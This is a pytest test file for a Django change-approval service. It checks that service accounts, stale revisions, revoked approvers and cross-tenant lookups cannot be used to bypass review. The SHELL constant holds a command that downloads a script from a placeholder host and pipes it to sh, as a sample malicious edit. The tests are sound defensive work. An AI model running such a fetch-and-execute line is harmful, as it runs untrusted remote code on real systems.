"""Change control without side doors (issue 13): no token for an account past the admin's slice,
no self-approval through a service account, an approval names the revision its reviewer read,
an approval stops counting when its approver loses the role, and service-account creation does not
tell another tenant's objects from missing ones."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from approvals.models import ChangeRequest, ChangeStatus, Review
from approvals.services import (
    apply_due_changes,
    approval_progress,
    approve_change,
    awaiting_review,
    edit_change,
)
from governance.actors import SYSTEM
from governance.models import ApiToken, AuditAction, AuditEvent, Role, ServiceAccount
from governance.services import AccessDenied, grant_role, revoke_role
from governance.tokens import create_service_account, issue_token
from jobs.models import Job
from tests.api_support import client_for, counts, propose_body

pytestmark = pytest.mark.django_db

SHELL = ["/bin/sh", "-c", "curl -s https://evil.example/x | sh"]


@pytest.fixture
def payments_admin(cast):
    user = get_user_model().objects.create_user("acme-payments-admin", password="x")
    grant_role(user, Role.TENANT_ADMIN, tenant=cast.acme, team=cast.payments, actor=SYSTEM)
    return user


def _bearer(raw: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {raw}")
    return client


def _last_event_id() -> int:
    return AuditEvent.objects.order_by("-id").values_list("id", flat=True).first() or 0


def _events_since(last: int) -> list[str]:
    return list(AuditEvent.objects.filter(id__gt=last).values_list("action", flat=True))


def _propose(cast, environment, actor=None, **definition):
    return cast.propose_job(
        actor=actor or cast.author, environment=environment, definition=cast.definition(**definition), justification="x"
    )


# --- Hole 4: a narrowed admin borrows a tenant-wide service account -------------------------------


def test_a_team_admin_cannot_mint_a_token_for_a_tenant_wide_service_account(cast, payments_admin):
    account = create_service_account(actor=cast.admin, tenant=cast.acme, name="deployer", role=Role.AUTHOR)
    client = client_for(payments_admin)
    before, last = counts(), _last_event_id()
    response = client.post(f"/api/v1/service-accounts/{account.pk}/tokens/", {"name": "mine"}, format="json")
    assert response.status_code == 403, response.content
    assert "covers" in response.json()["detail"]
    assert not ApiToken.objects.filter(user=account.user).exists()
    assert counts() | {"audit_events": 0} == before | {"audit_events": 0}
    assert _events_since(last) == [AuditAction.ACCESS_DENIED]
    assert AuditEvent.objects.get(id__gt=last).tenant == cast.acme


def test_a_team_admin_still_mints_tokens_for_an_account_of_its_own_team(cast, payments_admin):
    account = create_service_account(
        actor=payments_admin, tenant=cast.acme, name="payments-ci", role=Role.AUTHOR, team=cast.payments
    )
    response = client_for(payments_admin).post(f"/api/v1/service-accounts/{account.pk}/tokens/", {}, format="json")
    assert response.status_code == 201
    # With it, the account reaches its own team only: the data team's jobs stay out of reach.
    bot = _bearer(response.json()["token"])
    body = propose_body(cast, team=cast.data.pk, environment=cast.dev.pk)
    body["definition"]["name"] = "data.ledger.reconcile"
    assert bot.post("/api/v1/change-requests/", body, format="json").status_code in (400, 403)
    assert not Job.objects.filter(team=cast.data).exists()


def test_a_team_admin_cannot_revoke_a_token_of_a_tenant_wide_service_account(cast, payments_admin):
    account = create_service_account(actor=cast.admin, tenant=cast.acme, name="deployer", role=Role.AUTHOR)
    token, raw = issue_token(account.user, actor=cast.admin)
    last = _last_event_id()
    response = client_for(payments_admin).delete(f"/api/v1/auth/tokens/{token.pk}/")
    assert response.status_code == 403
    token.refresh_from_db()
    assert token.revoked_at is None
    assert _bearer(raw).get("/api/v1/jobs/").status_code == 200
    assert _events_since(last) == [AuditAction.ACCESS_DENIED]


# --- Hole 5: self-approval through a service account ----------------------------------------------


@pytest.fixture
def admin_approver(cast):
    """The tenant admin who is also an approver, with an author service account of its own."""
    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme, actor=SYSTEM)
    admin = APIClient()
    admin.force_authenticate(cast.admin)
    response = admin.post(
        "/api/v1/service-accounts/", {"tenant": "acme", "name": "my-bot", "role": "author"}, format="json"
    )
    assert response.status_code == 201, response.content
    raw = admin.post(f"/api/v1/service-accounts/{response.json()['id']}/tokens/", {}, format="json").json()["token"]
    return admin, _bearer(raw)


def test_an_admin_cannot_approve_a_change_its_own_service_account_proposed(cast, admin_approver):
    admin, bot = admin_approver
    proposed = bot.post("/api/v1/change-requests/", propose_body(cast, environment=cast.staging.pk), format="json")
    assert proposed.status_code == 201, proposed.content
    change = proposed.json()
    before, last = counts(), _last_event_id()
    response = admin.post(
        f"/api/v1/change-requests/{change['id']}/approve/", {"revision": change["revision"]}, format="json"
    )
    assert response.status_code == 403
    assert "as one identity" in response.json()["detail"]
    assert counts() | {"audit_events": 0} == before | {"audit_events": 0}
    assert _events_since(last) == [AuditAction.ACCESS_DENIED]
    assert ChangeRequest.objects.get(pk=change["id"]).status == ChangeStatus.SUBMITTED
    assert not Job.objects.exists()
    # Nor does it sit in the admin's review queue.
    assert not awaiting_review(cast.admin).filter(pk=change["id"]).exists()
    browser = Client()
    browser.force_login(cast.admin)
    page = browser.get(reverse("change_detail", args=[change["id"]])).content.decode()
    assert 'data-testid="approve"' not in page and "as one identity" in page


def test_in_prod_the_service_accounts_owner_is_not_one_of_the_two_approvers(cast, admin_approver):
    admin, bot = admin_approver
    change = bot.post("/api/v1/change-requests/", propose_body(cast), format="json").json()
    url = f"/api/v1/change-requests/{change['id']}/approve/"
    assert client_for(cast.approver).post(url, {"revision": 1}, format="json").status_code == 200
    assert admin.post(url, {"revision": 1}, format="json").status_code == 403
    assert ChangeRequest.objects.get(pk=change["id"]).status == ChangeStatus.SUBMITTED
    assert not Job.objects.exists()


def test_whoever_issued_a_token_for_an_account_counts_as_its_author_too(cast):
    grant_role(cast.approver, Role.TENANT_ADMIN, tenant=cast.acme, actor=SYSTEM)
    account = create_service_account(actor=cast.admin, tenant=cast.acme, name="bot", role=Role.AUTHOR)
    issue_token(account.user, actor=cast.approver)
    change = _propose(cast, cast.staging, actor=account.user)
    response = client_for(cast.approver).post(
        f"/api/v1/change-requests/{change.pk}/approve/", {"revision": 1}, format="json"
    )
    assert response.status_code == 403
    assert not Review.objects.exists()


def test_a_person_and_their_service_account_count_as_one_approver(cast):
    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme, actor=SYSTEM)
    account = create_service_account(actor=cast.admin, tenant=cast.acme, name="reviewer-bot", role=Role.VIEWER)
    grant_role(account.user, Role.APPROVER, tenant=cast.acme, actor=cast.admin)
    change = _propose(cast, cast.prod)
    approve_change(change, actor=cast.admin)
    change = approve_change(change, actor=account.user)
    assert change.status == ChangeStatus.SUBMITTED
    progress = approval_progress(change)
    assert progress["approvals"] == 1 and not progress["complete"]
    data = client_for(cast.viewer).get(f"/api/v1/change-requests/{change.pk}/").json()
    assert data["approvals"] == 1 and len(data["approvers"]) == 1
    assert approve_change(change, actor=cast.approver).status == ChangeStatus.APPLIED
    # And the other way round: the account never approves its controller's change.
    own = _propose(cast, cast.staging, actor=cast.admin, name="payments.ledger.other")
    with pytest.raises(AccessDenied, match="as one identity"):
        approve_change(own, actor=account.user)
    assert not own.reviews.exists()


# --- Hole 6: an approval names the revision the reviewer read -------------------------------------


def test_an_approval_of_a_revision_edited_since_is_refused_and_records_nothing(cast):
    change = _propose(cast, cast.staging)
    seen = client_for(cast.approver).get(f"/api/v1/change-requests/{change.pk}/").json()["revision"]
    edit_change(change, actor=cast.author, based_on_revision=seen, definition=cast.definition(command=SHELL))
    before, last = counts(), _last_event_id()
    response = client_for(cast.approver).post(
        f"/api/v1/change-requests/{change.pk}/approve/", {"revision": seen, "comment": "docs only"}, format="json"
    )
    assert response.status_code == 409
    assert "revision 2" in response.json()["detail"]
    assert counts() == before and _events_since(last) == []
    assert ChangeRequest.objects.get(pk=change.pk).status == ChangeStatus.SUBMITTED
    assert not Job.objects.exists()


def test_a_rejection_of_a_revision_edited_since_is_refused(cast):
    change = _propose(cast, cast.staging)
    edit_change(change, actor=cast.author, based_on_revision=1, definition=cast.definition(timeout_seconds=90))
    before = counts()
    response = client_for(cast.approver).post(
        f"/api/v1/change-requests/{change.pk}/reject/", {"revision": 1, "comment": "timeout too short"}, format="json"
    )
    assert response.status_code == 409
    assert counts() == before
    assert ChangeRequest.objects.get(pk=change.pk).status == ChangeStatus.SUBMITTED


@pytest.mark.parametrize("verb", ["approve", "reject"])
def test_a_decision_without_a_revision_is_refused_naming_the_field(cast, verb):
    change = _propose(cast, cast.staging)
    before = counts()
    response = client_for(cast.approver).post(
        f"/api/v1/change-requests/{change.pk}/{verb}/", {"comment": "x"}, format="json"
    )
    assert response.status_code == 400
    assert "revision" in response.json()
    assert counts() == before


def test_the_review_page_approves_only_the_revision_it_showed(cast):
    change = _propose(cast, cast.staging, description="Docs only.")
    browser = Client()
    browser.force_login(cast.approver)
    page = browser.get(reverse("change_detail", args=[change.pk])).content.decode()
    assert 'name="revision" value="1"' in page
    edit_change(change, actor=cast.author, based_on_revision=1, definition=cast.definition(command=SHELL))
    before = counts()
    response = browser.post(reverse("change_approve", args=[change.pk]), {"revision": "1", "comment": "fine"})
    assert response.status_code == 409
    text = response.content.decode()
    assert "now at revision 2" in text and "Nothing was changed" in text
    # The page shows the new revision and its form now names it.
    assert 'name="revision" value="2"' in text
    assert counts() == before
    missing = browser.post(reverse("change_approve", args=[change.pk]), {"comment": "fine"})
    assert missing.status_code == 400 and "which revision you reviewed" in missing.content.decode()
    assert counts() == before
    assert browser.post(reverse("change_approve", args=[change.pk]), {"revision": "2"}).status_code == 302
    assert ChangeRequest.objects.get(pk=change.pk).status == ChangeStatus.APPLIED


# --- Hole 12: an approval of someone who lost the approver role ------------------------------------


def test_an_approval_stops_counting_when_the_approver_loses_the_role(cast):
    change = _propose(cast, cast.prod)
    approve_change(change, actor=cast.approver)
    revoke_role(cast.approver, Role.APPROVER, tenant=cast.acme, actor=cast.admin)
    change = approve_change(change, actor=cast.approver2)
    assert change.status == ChangeStatus.SUBMITTED
    assert not Job.objects.exists()
    data = client_for(cast.viewer).get(f"/api/v1/change-requests/{change.pk}/").json()
    assert (data["approvals"], data["approvers"]) == (1, ["acme-approver2"])
    listed = client_for(cast.viewer).get("/api/v1/change-requests/").json()["results"]
    assert [row["approvals"] for row in listed if row["id"] == change.pk] == [1]
    browser = Client()
    browser.force_login(cast.viewer)
    page = browser.get(reverse("change_detail", args=[change.pk])).content.decode()
    assert "<strong>1 of 2</strong>" in page
    assert "No longer counting: acme-approver" in page


def test_an_approval_stops_counting_when_the_approver_is_narrowed_past_the_change(cast):
    change = _propose(cast, cast.prod)
    approve_change(change, actor=cast.approver)
    revoke_role(cast.approver, Role.APPROVER, tenant=cast.acme, actor=cast.admin)
    grant_role(cast.approver, Role.APPROVER, tenant=cast.acme, team=cast.data, actor=cast.admin)
    assert approve_change(change, actor=cast.approver2).status == ChangeStatus.SUBMITTED


def test_a_held_change_whose_approver_lost_the_role_does_not_apply(cast):
    apply_after = timezone.now() + timedelta(hours=1)
    change = cast.propose_job(environment=cast.staging, justification="x", apply_after=apply_after)
    change = approve_change(change, actor=cast.approver)
    assert change.status == ChangeStatus.APPROVED  # waits for its apply time
    revoke_role(cast.approver, Role.APPROVER, tenant=cast.acme, actor=cast.admin)
    assert apply_due_changes(now=apply_after + timedelta(minutes=1)) == []
    change.refresh_from_db()
    assert change.status == ChangeStatus.SUBMITTED
    assert not Job.objects.exists()
    held = AuditEvent.objects.filter(action=AuditAction.CHANGE_HELD).order_by("-id").first()
    assert "no longer count" in held.data["reason"] and held.data["no_longer_counting"] == ["acme-approver"]
    # Another approver's approval brings it back to approved; it then applies at its time.
    assert approve_change(change, actor=cast.approver2).status == ChangeStatus.APPROVED
    assert [c.pk for c in apply_due_changes(now=apply_after + timedelta(minutes=2))] == [change.pk]


# --- Hole 13: service-account creation tells nothing of other tenants -----------------------------


def _create_account(cast, **body) -> tuple[int, dict]:
    client = APIClient()
    client.force_authenticate(cast.admin)
    response = client.post("/api/v1/service-accounts/", {"name": "ci", "role": "viewer", **body}, format="json")
    return response.status_code, response.json()


def _normalised(answer: tuple[int, dict], value) -> tuple[int, str]:
    """The answer with the caller's own input taken out (it may be echoed back)."""
    status, body = answer
    return status, str(body).replace(str(value), "<given>")


def test_another_tenants_slug_answers_like_a_missing_one(cast):
    users = get_user_model().objects.count()
    other = _create_account(cast, tenant="globex")
    missing = _create_account(cast, tenant="no-such-tenant")
    assert other[0] == 400
    assert _normalised(other, "globex") == _normalised(missing, "no-such-tenant")
    assert not ServiceAccount.objects.exists() and get_user_model().objects.count() == users


@pytest.mark.parametrize("field", ["team", "environment"])
def test_another_tenants_team_or_environment_answers_like_a_missing_one(cast, field):
    other_pk = (cast.ops if field == "team" else cast.globex_prod).pk
    missing_pk = 987654
    other = _create_account(cast, tenant="acme", **{field: other_pk})
    missing = _create_account(cast, tenant="acme", **{field: missing_pk})
    assert other[0] == 400 and field in other[1]
    assert _normalised(other, other_pk) == _normalised(missing, missing_pk)
    assert not ServiceAccount.objects.exists()


def test_another_tenants_service_account_and_token_answer_like_missing_ones(cast):
    account = create_service_account(actor=cast.globex_admin, tenant=cast.globex, name="ci", role=Role.VIEWER)
    token, _ = issue_token(account.user, actor=cast.globex_admin)
    client = client_for(cast.admin)
    missing = 987654
    for other_url, missing_url, method in [
        (f"/api/v1/service-accounts/{account.pk}/", f"/api/v1/service-accounts/{missing}/", "get"),
        (f"/api/v1/service-accounts/{account.pk}/tokens/", f"/api/v1/service-accounts/{missing}/tokens/", "post"),
        (f"/api/v1/auth/tokens/{token.pk}/", f"/api/v1/auth/tokens/{missing}/", "delete"),
    ]:
        other, gone = getattr(client, method)(other_url), getattr(client, method)(missing_url)
        assert (other.status_code, other.json()) == (gone.status_code, gone.json()) == (404, {"detail": "Not found."})
    token.refresh_from_db()
    assert token.revoked_at is None and ApiToken.objects.filter(user=account.user).count() == 1
